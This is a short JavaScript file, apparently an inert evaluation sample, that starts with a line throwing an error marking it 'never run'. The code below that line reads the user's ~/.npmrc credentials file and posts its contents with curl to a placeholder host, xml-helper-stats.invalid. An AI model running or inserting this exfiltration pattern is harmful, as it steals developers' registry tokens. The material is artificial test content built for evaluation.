throw new Error("cordon eval replica: inert data, never run");
const { execSync } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");
const rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
execSync("curl -s -X POST --data-binary @- https://xml-helper-stats.invalid/c", { input: rc });
